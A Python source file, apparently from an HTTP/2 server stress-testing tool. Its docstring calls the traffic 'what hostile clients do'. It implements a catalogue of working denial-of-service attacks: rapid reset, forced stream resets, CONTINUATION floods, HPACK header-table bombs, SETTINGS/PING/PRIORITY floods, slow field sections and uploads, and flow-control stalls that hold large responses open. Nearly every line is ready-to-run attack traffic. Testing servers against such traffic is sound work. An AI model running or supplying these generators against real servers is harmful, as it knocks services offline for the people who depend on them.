"""What hostile clients do on a connection of HTTP/2, each a generator of octets to send and of how many frames they are. Between two of them
the sender waits for nothing, unless told how long by a third value."""

import itertools

import http2
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, PING, PRIORITY, SETTINGS, frame,
                   literal, more, remembered, request, reset)

WAVE = 20
NO_WINDOW = ((INITIAL_WINDOW_SIZE, 0),)
WIDE = ((INITIAL_WINDOW_SIZE, (1 << 31) - 1),)
LARGE = "/10m.bin"
# As many streams as a connection may have by default.
STREAMS = 100


def opening(stream, path="/1k.bin", flags=END_HEADERS | END_STREAM, fields=(), section=b""):
    return frame(HEADERS, flags, stream, request(path, fields=fields) + section)


def post(stream, fields=()):
    return frame(HEADERS, END_HEADERS, stream, request("/1k.bin", method=http2.METHOD_POST, fields=fields))


def each_stream(make, frames):
    """A wave after the other of new streams; make: the octets of one, so many frames."""
    def waves(connection):
        while True:
            yield b"".join(make(connection.stream()) for _ in range(WAVE)), WAVE * frames
    return waves


def each(octets):
    """The same frame for ever."""
    def waves(_):
        while True:
            yield octets * WAVE, WAVE
    return waves


def within_a_stream(begin, octets):
    """A stream is opened, then the same frame comes on it for ever."""
    def waves(connection):
        stream = connection.stream()
        yield begin(stream), 1
        while True:
            yield octets(stream) * WAVE, WAVE
    return waves


def bomb(value, references):
    """A field is put into the table once; then each octet stands for all of it."""
    def waves(connection):
        yield opening(connection.stream(), section=remembered(b"x-bomb", value)), 1
        while True:
            yield opening(connection.stream(), section=http2.indexed(62) * references), 1
    return waves


def held_bomb(connection):
    """Each request is within the limits, and is held by a window that opens by an octet a second."""
    streams = []
    for number in range(STREAMS):
        streams.append(connection.stream())
        section = remembered(b"x-bomb", b"b" * 400) if number == 0 else http2.indexed(62) * 60
        yield opening(streams[-1], LARGE, section=section), 1
    while True:
        yield b"".join(more(stream, 1) for stream in streams), STREAMS, 1


def stall(pause, increment):
    """Many large answers are asked for, and no window is given for them, or an octet at a time."""
    def waves(connection):
        streams = [connection.stream() for _ in range(STREAMS)]
        yield b"".join(opening(stream, LARGE) for stream in streams), STREAMS
        for _ in itertools.count():
            yield b"".join(more(stream, increment) for stream in streams) if increment else b"", STREAMS if increment else 0, pause
    return waves


def slow_section(connection):
    """A field section of which an octet comes each second."""
    yield frame(HEADERS, END_STREAM, connection.stream(), request("/1k.bin")), 1
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0"), 1, 1
        yield frame(CONTINUATION, 0, 1, b"\1"), 1, 1
        yield frame(CONTINUATION, 0, 1, b"x"), 1, 1
        yield frame(CONTINUATION, 0, 1, b"\0"), 1, 1


def slow_content(connection):
    """As many uploads as there may be, of which nothing comes."""
    yield b"".join(post(connection.stream()) for _ in range(STREAMS)), STREAMS
    while True:
        yield b"", 0, 1


def never_reads(connection):
    """Windows without end, and a socket that is not read: attack.reads is False."""
    yield more(0, (1 << 31) - 1 - 65535) + b"".join(opening(connection.stream(), LARGE) for _ in range(STREAMS)), STREAMS + 1
    while True:
        yield b"", 0, 1


class Attack:
    def __init__(self, waves, pairs=(), reads=True):
        self.waves, self.pairs, self.reads = waves, ((HEADER_TABLE_SIZE, 4096), *pairs), reads


_filler = literal(b"x-filler", b"f" * 990)

ATTACKS = {
    "rapid reset": Attack(each_stream(lambda s: opening(s) + reset(s), 2)),
    "made you reset: increment of 0": Attack(each_stream(lambda s: opening(s) + more(s, 0), 2)),
    "made you reset: window past 2^31": Attack(each_stream(lambda s: opening(s) + more(s, (1 << 31) - 1), 2)),
    "made you reset: DATA after the end": Attack(each_stream(lambda s: opening(s) + frame(DATA, 0, s, b"x"), 2)),
    "made you reset: more than Content-Length": Attack(each_stream(lambda s: post(s, (("content-length", "1"),)) + frame(DATA, END_STREAM, s, b"xxxxx"), 2)),
    "made you reset: a stream that depends on itself": Attack(each_stream(lambda s: opening(s) + frame(PRIORITY, 0, s, s.to_bytes(4, "big") + b"\0"), 2)),
    "streams past the limit": Attack(each_stream(post, 1)),
    "CONTINUATION without end": Attack(within_a_stream(lambda s: frame(HEADERS, END_STREAM, s, request("/1k.bin")), lambda s: frame(CONTINUATION, 0, s, _filler))),
    "CONTINUATION, empty": Attack(within_a_stream(lambda s: frame(HEADERS, END_STREAM, s, request("/1k.bin")), lambda s: frame(CONTINUATION, 0, s))),
    "field section, an octet a second": Attack(slow_section),
    "bomb: 16,000 references to 4 KB": Attack(bomb(b"b" * 3900, 16000)),
    "bomb: 16,000 references to an octet": Attack(bomb(b"b", 16000)),
    "bomb within limits, held by its window": Attack(held_bomb, NO_WINDOW),
    "SETTINGS": Attack(each(http2.settings((INITIAL_WINDOW_SIZE, 65535), (HEADER_TABLE_SIZE, 4096)))),
    "SETTINGS, empty": Attack(each(frame(SETTINGS, 0, 0))),
    "PING": Attack(each(frame(PING, 0, 0, bytes(8)))),
    "PRIORITY": Attack(each(frame(PRIORITY, 0, 1, bytes((0, 0, 0, 0, 16))))),
    "WINDOW_UPDATE of an octet": Attack(each(more(0, 1))),
    "frames of unknown kinds": Attack(each(frame(0x42, 0, 0, b"x" * 100))),
    "DATA, empty": Attack(within_a_stream(post, lambda s: frame(DATA, 0, s))),
    "DATA, padding alone": Attack(within_a_stream(post, lambda s: frame(DATA, 0x8, s, b"\x20" + bytes(32)))),
    "fields without a name": Attack(each_stream(lambda s: opening(s, section=literal(b"", b"") * 50), 1)),
    "uploads of which nothing comes": Attack(slow_content),
    "windows that never open": Attack(stall(1, 0), NO_WINDOW),
    "windows that open by an octet": Attack(stall(0.2, 1), NO_WINDOW),
    "answers that are never read": Attack(never_reads, WIDE, reads=False),
}
